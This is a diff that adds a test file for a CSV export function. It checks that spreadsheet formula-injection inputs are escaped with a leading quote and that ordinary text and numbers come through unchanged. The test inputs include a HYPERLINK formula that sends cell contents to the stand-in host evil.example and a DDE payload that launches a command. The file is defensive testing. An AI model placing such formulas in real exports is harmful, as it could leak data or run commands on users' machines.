@@ -1,0 +1,53 @@
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { csvFile } from './csv.ts';
+
+const cellOf = (text: string) =>
+  Papa.parse<string[]>(csvFile(['text'], [[text]]).replace('\uFEFF', '')).data[1]?.[0];
+
+describe('texts that a spreadsheet would run', () => {
+  test.each([
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1:A9)',
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=cmd|'/C calc'!A0",
+    '|calc',
+    '%0A=1',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\ttab first',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '=1+1\nand a second line',
+    '=1+1;"=2+2"',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(1)',
+  ])('%j is shown as it was typed', (text) => {
+    expect(cellOf(text)).toBe(`'${text}`);
+  });
+
+  test('are caught in the names of columns too', () => {
+    expect(csvFile(['=1'], [])).toBe('\uFEFF"\'=1"\r\n');
+  });
+});
+
+describe('what stays as it is', () => {
+  test.each(['Ada', 'a=b', '5 - 6', 'ana@example.org', 'Núñez, "Pía"', 'two\nlines', "it's", ''])(
+    '%j is read back the same',
+    (text) => {
+      if (text === '') expect(csvFile(['a', 'b'], [[text, 'x']])).toBe('\uFEFFa,b\r\n,x\r\n');
+      else expect(cellOf(text)).toBe(text);
+    },
+  );
+
+  test('numbers can be added up, below zero too; nothing is an empty cell', () => {
+    expect(csvFile(['a', 'b', 'c'], [[-5, 0, null]])).toBe('\uFEFFa,b,c\r\n-5,0,\r\n');
+  });
+});
